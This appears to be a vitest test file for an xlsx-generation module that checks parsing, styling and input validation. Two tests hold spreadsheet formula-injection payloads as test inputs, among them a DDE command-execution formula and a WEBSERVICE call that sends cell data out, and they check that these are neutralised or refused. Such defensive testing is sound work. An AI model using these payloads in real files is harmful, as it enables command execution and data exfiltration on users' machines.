import { strFromU8, unzipSync } from 'fflate'
import readXlsx from 'read-excel-file/node'
import { expect, test } from 'vitest'
import { MakeFailure } from '../failure.ts'
import { make } from '../make.ts'

const makeBook = (content: unknown) =>
  make({ kind: 'xlsx', content: typeof content === 'string' ? content : JSON.stringify(content) })

/** Sheets as another library reads them: name and rows. */
async function readBook(bytes: Buffer) {
  const sheets = await readXlsx(bytes)
  return sheets.map(({ sheet, data }) => [sheet, data] as const)
}

const part = (bytes: Buffer, name: string): string => strFromU8(unzipSync(bytes)[name]!)

test('JSON becomes sheets whose numbers, dates and truth are real', async () => {
  const { bytes, notes, summary } = await makeBook({
    sheets: [
      {
        name: 'Sales',
        rows: [
          ['Day', 'Total', 'Paid', 'Code'],
          ['2026-01-31', 12.5, true, '007'],
          ['2026-02-28T10:30', -3, false, null],
        ],
      },
      {
        name: 'People',
        rows: [
          { Name: 'Äda', Age: 36 },
          { Name: 'Bo', City: 'Köln' },
        ],
      },
    ],
  })
  expect(await readBook(bytes)).toEqual([
    [
      'Sales',
      [
        ['Day', 'Total', 'Paid', 'Code'],
        [new Date('2026-01-31T00:00:00Z'), 12.5, true, '007'],
        [new Date('2026-02-28T10:30:00Z'), -3, false, null],
      ],
    ],
    [
      'People',
      [
        ['Name', 'Age', 'City'],
        ['Äda', 36, null],
        ['Bo', null, 'Köln'],
      ],
    ],
  ])
  expect(notes).toEqual(['sheet "Sales" with 2 rows below its header, sheet "People" with 2 rows below its header'])
  expect(summary).toContain('| 2026-02-28 10:30 | -3 | false |')
})

test('CSV is one sheet whose numbers are seen by their looks', async () => {
  const csv = '\ufeffName;Zahl;Anteil;Telefon\n"Müller; A";12.5;12.5%;+4930123\n007;12345678901234567890;true;1e5\n'
  expect(await readBook((await makeBook(csv)).bytes)).toEqual([
    [
      'Sheet1',
      [
        ['Name', 'Zahl', 'Anteil', 'Telefon'],
        ['Müller; A', 12.5, 0.125, '+4930123'],
        ['007', '12345678901234567890', true, '1e5'],
      ],
    ],
  ])
})

test('the header is bold and stays in sight, and columns are as wide as what is in them', async () => {
  const { bytes } = await makeBook([
    ['Short', 'Long'],
    ['a', 'x'.repeat(30)],
  ])
  const sheet = part(bytes, 'xl/worksheets/sheet1.xml')
  expect(sheet).toMatch(/<pane [^>]*ySplit="1"[^>]*state="frozen"/)
  const widths = [...sheet.matchAll(/<col [^>]*width="(\d+)"/g)].map((match) => Number(match[1]))
  expect(widths).toEqual([8, 32])
  expect(part(bytes, 'xl/styles.xml')).toContain('<b/>')
})

test('only what says so is a formula: text that begins with = stays text', async () => {
  const { bytes } = await makeBook([
    ['Sum', 'Text'],
    [{ formula: '=SUM(A3:A4)', format: '#,##0.00 "€"' }, '=1+1'],
    [1, '=cmd|x'],
    [2, '@a'],
  ])
  const sheet = part(bytes, 'xl/worksheets/sheet1.xml')
  expect([...sheet.matchAll(/<f>([^<]*)<\/f>/g)].map((match) => match[1])).toEqual(['SUM(A3:A4)'])
  expect(part(bytes, 'xl/styles.xml')).toContain('#,##0.00 &quot;€&quot;')
  expect((await readBook(bytes))[0]![1]![1]).toEqual([null, '=1+1'])
  const { bytes: fromCsv } = await makeBook('a,b\n=1+1,"=SUM(1,2)"\n')
  expect(part(fromCsv, 'xl/worksheets/sheet1.xml')).not.toContain('<f>')
})

test('a formula that reaches out of the workbook is refused', async () => {
  for (const formula of ['=WEBSERVICE("http://a/"&A1)', "=cmd|' /C calc'!A0", '=HYPERLINK("x")', "='[b.xlsx]S'!A1"]) {
    await expect(makeBook([['a'], [{ formula }]])).rejects.toThrow(/reaches out of the workbook/)
  }
})

test('names of sheets are made such as spreadsheets take them', async () => {
  const rows = [['a'], [1]]
  const long = 'A very long name of a sheet that goes on'
  const { bytes } = await makeBook({
    sheets: [{ name: 'a/b:c', rows }, { name: 'A-B-C', rows }, { name: long, rows }, { rows }],
  })
  expect((await readBook(bytes)).map(([name]) => name)).toEqual([
    'a-b-c',
    'A-B-C (2)',
    long.slice(0, 31).trim(),
    'Sheet4',
  ])
})

test('dates that are none, times and long texts are kept as they are', async () => {
  const long = 'z'.repeat(500)
  const { bytes } = await makeBook([['a'], ['2026-13-01'], ['2026-02-30'], ['0001-01-01'], [long], ['line\nline']])
  const [, rows] = (await readBook(bytes))[0]!
  expect(rows!.slice(1).flat()).toEqual(['2026-13-01', '2026-02-30', '0001-01-01', long, 'line\nline'])
})

test('what cannot be a workbook is refused with the forms that can', async () => {
  for (const content of ['{"sheets":', '{"a":5}', '[1,2]', '{"sheets":[]}', '[]', '', 'a,"b\n']) {
    await expect(makeBook(content), content).rejects.toThrow(MakeFailure)
    await expect(makeBook(content), content).rejects.toThrow(/Write CSV for one sheet, or JSON/)
  }
  await expect(makeBook([['a'], ['x'.repeat(32_768)]])).rejects.toThrow(/32767 at most/)
})
